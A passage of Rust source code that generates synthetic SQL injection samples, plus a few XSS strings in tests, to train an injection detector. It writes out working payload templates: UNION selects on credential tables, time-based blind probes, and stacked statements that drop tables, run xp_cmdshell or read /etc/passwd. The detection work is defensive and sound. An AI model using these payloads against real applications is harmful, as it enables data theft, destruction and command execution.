        let mut r = Rng::new(seed ^ stream);
        out.extend((0..count).map(|_| Sample {
            value: make(&mut r),
            kind: Kind::Benign,
            source: "generated-benign".into(),
        }));
    };
    family(0x6669_6c65, n / 160, file_name);
    family(0x6874_6d6c, n / 40, editor_html);
    out
}

/// The source name of [`sqli_corpus`] samples.
pub const GENERATED_SQLI: &str = "generated-sqli";

/// SQL injections generated from SQL grammar, one technique family at a
/// time, so that the model learns the grammar of an injection rather than
/// the habits of one tool (the httpparams attacks are all sqlmap's): an
/// optional value, an escape from the value's context (none, a quote, a
/// parenthesis), a payload of one family (tautology, UNION, ORDER/GROUP BY
/// probe, boolean and time-based blind, error-based, stacked statement,
/// a whole statement), a comment or nothing, then an obfuscation (case
/// mixing, comments or `+` for spaces, versioned comments); then `n / 20`
/// injections into a list of values ([`list_injections`]).
pub fn sqli_corpus(seed: u64, n: usize) -> Vec<Sample> {
    const VALUES: &[&str] = &["", "", "1", "-1", "0", "10", "admin", "x", "abc", "99999"];
    const ESCAPES: &[&str] = &["", "'", "'", "\"", ")", "')", "\")", "'))", "`"];
    const TABLES: &[&str] = &[
        "users",
        "accounts",
        "admin",
        "orders",
        "t",
        "members",
        "dbo.users",
        "sessions",
        "information_schema.tables",
        "mysql.user",
        "pg_shadow",
        "sysobjects",
        "all_tables",
    ];
    const COLUMNS: &[&str] = &[
        "username",
        "password",
        "name",
        "email",
        "table_name",
        "column_name",
        "uid",
        "pass",
        "login",
        "1",
        "null",
        "@@version",
        "version()",
        "user()",
        "database()",
        "current_user",
    ];
    const SLEEPS: &[&str] = &[
        "sleep(5)",
        "sleep(10)",
        "benchmark(5000000,md5(1))",
        "pg_sleep(5)",
        "dbms_pipe.receive_message('a',5)",
        "randomblob(500000000)",
    ];
    const INFO: &[&str] = &[
        "version()",
        "@@version",
        "user()",
        "database()",
        "current_user",
        "system_user",
        "@@hostname",
        "db_name()",
        "banner",
    ];
    const COMMENTS: &[&str] = &["", "", "--", "-- -", "--+", "#", "/*", ";--", ";", "-- x"];
    let mut r = Rng::new(seed ^ 0x5157_4c49);
    let mut out = Vec::with_capacity(n);
    for _ in 0..n {
        let esc = r.pick(ESCAPES);
        let quote = esc.chars().find(|c| matches!(c, '\'' | '"' | '`'));
        // A payload may end in an open literal that the query's own closing
        // quote completes (`' or 'a'='a`), when there is no comment.
        let q = quote.map(String::from).unwrap_or_default();
        let t = r.pick(TABLES);
        let c = r.pick(COLUMNS);
        let n_cols = 1 + r.below(6);
        let logic = ["or", "and", "||", "&&", "xor", "or not"][r.below(6)];
        let family = r.below(10);
        let payload = match family {
            0 | 1 => {
                let cond = match r.below(14) {
                    12 => format!("({q}x{q})=({q}x"),
                    13 => format!("{q}x{q}={q}x{q} {logic} {q}a"),
                    0 => "1=1".to_string(),
                    1 => "1=2".to_string(),
                    2 => format!("{q}a{q}={q}a"),
                    3 => "x=x".to_string(),
                    4 => "true".to_string(),
                    5 => "2>1".to_string(),
                    6 => {
                        // `' or name like '%bob%`: the app's closing quote ends the pattern.
                        let lead = if r.below(2) == 0 { "%" } else { "" };
                        let w = r.pick(&["", "a", "admin", "Bob", "root", "test"]);
                        format!("{c} like {q}{lead}{w}%")
                    }
                    7 => "1 in (1,2)".to_string(),
                    8 => "1 between 0 and 2".to_string(),
                    9 => format!("{q}{q}={q}"),
                    10 => format!("{q}x{q} like {q}x"),
                    _ => format!("{}={}", r.below(100), r.below(100)),
                };
                format!("{logic} {cond}")
            }
            2 | 3 => {
                let cols: Vec<String> = (0..n_cols)
                    .map(|i| match r.below(4) {
                        0 => "null".to_string(),
                        1 => (i + 1).to_string(),
                        2 => c.to_string(),
                        _ => r.pick(INFO).to_string(),
                    })
                    .collect();
                let from = if r.below(2) == 0 {
                    format!(" from {t}")
                } else {
                    String::new()
                };
                let all = if r.below(3) == 0 { " all" } else { "" };
                format!("union{all} select {}{from}", cols.join(","))
            }
            4 => {
                let by = if r.below(3) == 0 { "group" } else { "order" };
                let dir = ["", " asc", " desc", ",1"][r.below(4)];
                format!("{by} by {}{dir}", 1 + r.below(30))
            }
            5 => match r.below(4) {
                0 => format!("{logic} {}", r.pick(SLEEPS)),
                1 => format!("; waitfor delay '0:0:{}'", 1 + r.below(9)),
                2 => format!("{logic} if(1=1,{},0)", r.pick(SLEEPS)),
                _ => format!(
                    "{logic} (select {} from (select(sleep({})))a)",
                    r.below(9999),
                    1 + r.below(9)
                ),
            },
            6 => match r.below(4) {
                0 => format!("and extractvalue(1,concat(0x7e,{}))", r.pick(INFO)),
                1 => format!("and updatexml(1,concat(0x7e,({}),0x7e),1)", r.pick(INFO)),
                2 => format!("and 1=convert(int,{})", r.pick(INFO)),
                _ => format!("and 1=cast({} as int)", r.pick(INFO)),
            },
            7 => match r.below(4) {
                0 => format!(
                    "{logic} ascii(substring((select {c} from {t} limit 1),{},1))>{}",
                    1 + r.below(9),
                    32 + r.below(90)
                ),
                1 => format!("{logic} (select count(*) from {t})>{}", r.below(9)),
                2 => format!("{logic} length({})={}", r.pick(INFO), 1 + r.below(20)),
                _ => format!("{logic} substr({},1,1)={q}{}", r.pick(INFO), r.below(10)),
            },
            8 => {
                let stmt = match r.below(20) {
                    12 => format!("create table {t} (c text)"),
                    13 => format!("alter table {t} add c int"),
                    14 => [
                        "grant connect to x; grant dba to x",
                        "revoke select on users from public",
                    ][r.below(2)]
                    .to_string(),
                    15 => "backup database master to disk='\\\\10.0.0.1\\x\\db.bak'".to_string(),
                    16 => format!("copy {t} to '/tmp/x'"),
                    17 => format!("select * from {t} into outfile '/tmp/x'"),
                    18 => format!("load data infile '/etc/passwd' into table {t}"),
                    19 => "set @a=1".to_string(),
                    0 => format!("drop table {t}"),
                    1 => format!("delete from {t}"),
                    2 => format!("insert into {t} values(1,'x','y')"),
                    3 => format!("update {t} set password='x' where 1=1"),
                    4 => "shutdown".to_string(),
                    5 => "exec xp_cmdshell('ping 10.0.0.1')".to_string(),
                    6 => "declare @q varchar(99) set @q='x' exec(@q)".to_string(),
                    7 => "create user hacker identified by 'p'".to_string(),
                    8 => format!("truncate table {t}"),
                    9 => "grant all privileges on *.* to 'x'@'%'".to_string(),
                    10 => format!("select * from {t}"),
                    _ => "waitfor delay '0:0:5'".to_string(),
                };
                // SQL Server runs a batch's statements without a separator.
                format!("{}{stmt}", [";", "; ", ""][r.below(3)])
            }
            _ => match r.below(9) {
                7 => format!("create table {t} (c text);"),
                8 => "grant dba to x;".to_string(),
                0 => format!("select {}", r.pick(INFO)),
                1 => format!("select * from {t}"),
                2 => format!("select {c} from {t} where 1=1"),
                3 => "exec master..xp_cmdshell 'dir'".to_string(),
                4 => "select load_file('/etc/passwd')".to_string(),
                5 => format!("copy {t} from '/etc/passwd'"),
                _ => format!("select {c},{c} from {t} limit 1"),
            },
        };
        let whole = family == 9;
        let lead = if whole { "" } else { r.pick(VALUES) };
        let esc = if whole { "" } else { esc };
        let sep = if esc.is_empty() && lead.is_empty() {
            ""
        } else {
            " "
        };
        let comment = if whole { "" } else { r.pick(COMMENTS) };
        let raw = format!(
            "{lead}{esc}{sep}{payload}{}{comment}",
            if comment.is_empty() { "" } else { " " }
        );
        let v = obfuscate(&mut r, raw.trim_end());
        out.push(Sample {
            value: v,
            kind: Kind::Sqli,
            source: GENERATED_SQLI.into(),
        });
    }
    list_injections(seed, n / 20, &mut out);
    out
}

/// Injections into one value of a list (`INSERT ... VALUES ('x', ...)`,
/// `UPDATE ... SET a = 'x', b = ...`, a function's arguments), which
/// continue the list and leave its quotes balanced: `x', (select password
/// from users limit 1), 'y` scored 0.0001 before this family, as no
/// generator above or data set writes them. Drawn from their own seeded
/// stream after the others, so that adding them left the other samples as
/// they were.
fn list_injections(seed: u64, n: usize, out: &mut Vec<Sample>) {
    const WORDS: &[&str] = &["x", "y", "a", "test", "1", "admin", "bob", "me@x.io", ""];
    const TABLES: &[&str] = &["users", "accounts", "members", "admin", "mysql.user"];
    const COLUMNS: &[&str] = &["password", "pass", "username", "email", "name", "role"];
    const VALUES: &[&str] = &[
        "@@version",
        "version()",
        "user()",
        "database()",
        "current_user",
        "sleep(5)",
        "pg_sleep(5)",
        "load_file('/etc/passwd')",
    ];
    let mut r = Rng::new(seed ^ 0x4c49_5354);
    for _ in 0..n {
        let q = ["'", "'", "\"", ""][r.below(4)];
        let w1 = r.pick(WORDS);
        let w2 = r.pick(WORDS);
        let (c, t) = (r.pick(COLUMNS), r.pick(TABLES));
        let sub = match r.below(4) {
            0 => format!("select {c} from {t} limit 1"),
            1 => format!("select group_concat({c}) from {t}"),
            2 => format!("select {c} from {t} where id=1"),
            _ => format!("select {}", r.pick(VALUES)),
        };
        let item = match r.below(3) {
            0 => format!("({sub})"),
            1 => r.pick(VALUES).to_string(),
            _ => format!("{}=({sub})", r.pick(COLUMNS)),
        };
        let raw = match r.below(3) {
            // the list goes on and the application's own quote closes it
            0 if !q.is_empty() => format!("{w1}{q}, {item}, {q}{w2}"),
            // `SET a = 'x', b = (select ...), c = 'y`
            1 if !q.is_empty() => format!(
                "{w1}{q}, {}={item}, {}={q}{w2}",
                r.pick(COLUMNS),
                r.pick(COLUMNS)
            ),
            // a numeric value in the list: nothing to close
            _ => format!("{}, {item}", r.below(100)),
        };
        out.push(Sample {
            value: obfuscate(&mut r, &raw),
            kind: Kind::Sqli,
            source: GENERATED_SQLI.into(),
        });
    }
}

/// Case mixing and the space substitutes SQL accepts (`/**/`, `+` in a
/// URL, tab, newline); one value in four is left as written.
fn obfuscate(r: &mut Rng, v: &str) -> String {
    let case = r.below(4);
    let space = match r.below(8) {
        0 => "/**/",
        1 => "+",
        2 => "\t",
        3 => "\n",
        4 => "  ",
        _ => " ",
    };
    let mut s = String::with_capacity(v.len() + 8);
    for c in v.chars() {
        match c {
            ' ' => s.push_str(space),
            c if case == 1 => s.push(c.to_ascii_uppercase()),
            c if case == 2 && r.below(2) == 0 => s.push(c.to_ascii_uppercase()),
            c => s.push(c),
        }
    }
    if r.below(10) == 0 {
        // MySQL's versioned comment around the first keyword.
        for k in [
            "union", "UNION", "select", "SELECT", "or", "OR", "and", "AND",
        ] {
            if let Some(i) = s.find(k) {
                s.replace_range(i..i + k.len(), &format!("/*!50000{k}*/"));
                break;
            }
        }
    }
    s
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_quotes_and_newlines() {
        let rows = parse_csv("\"a,b\",\"c\"\"d\"\n\"x\ny\",z\n");
        assert_eq!(
            rows,
            vec![
                vec!["a,b".to_string(), "c\"d".into()],
                vec!["x\ny".into(), "z".into()]
            ]
        );
    }

    #[test]
    fn documentation_lines_of_the_lists_are_not_payloads() {
        let read = |l| payload_of_line(l, Kind::Sqli);
        // Comments, headings and the glossary's descriptions.
        assert_eq!(read("# from wapiti"), None);
        assert_eq!(read("#\t    Hash comment"), None);
        assert_eq!(read("Time-Based:"), None);
        assert_eq!(read("Comments:"), None);
        assert_eq!(read("-- -\tSQL comment"), Some("-- -"));
        assert_eq!(read("||\t\t(double pipe) concatenate"), None);
        assert_eq!(read("@@variable\tglobal variable"), Some("@@variable"));
        // Payloads, including ones with a tab, a '#' or a ':' in them.
        assert_eq!(
            read("1 AND (SELECT * FROM Users) = 1\t"),
            Some("1 AND (SELECT * FROM Users) = 1\t")
        );
        assert_eq!(read("admin' #"), Some("admin' #"));
        assert_eq!(read("#'or 1=1--"), Some("#'or 1=1--"));
        assert_eq!(read("' and 1=1:"), Some("' and 1=1:"));
        assert_eq!(read("'"), None);
        let tabbed = "<IMG SRC=\"jav\tascript:alert('XSS');\">";
        assert_eq!(payload_of_line(tabbed, Kind::Xss), Some(tabbed));
        assert_eq!(
            payload_of_line("#goto,javascript:alert(1)", Kind::Xss),
            None
        );
    }

    #[test]
    fn base64_matches_the_standard() {
        assert_eq!(b64(b"username"), "dXNlcm5hbWU=");
        assert_eq!(b64(b"ab"), "YWI=");
        assert_eq!(b64(b"abc"), "YWJj");
    }

    #[test]
    fn corpus_is_deterministic() {
        let a = benign_corpus(7, 50);
        let b = benign_corpus(7, 50);
        assert_eq!(
            a.iter().map(|s| &s.value).collect::<Vec<_>>(),
            b.iter().map(|s| &s.value).collect::<Vec<_>>()
        );
    }
}
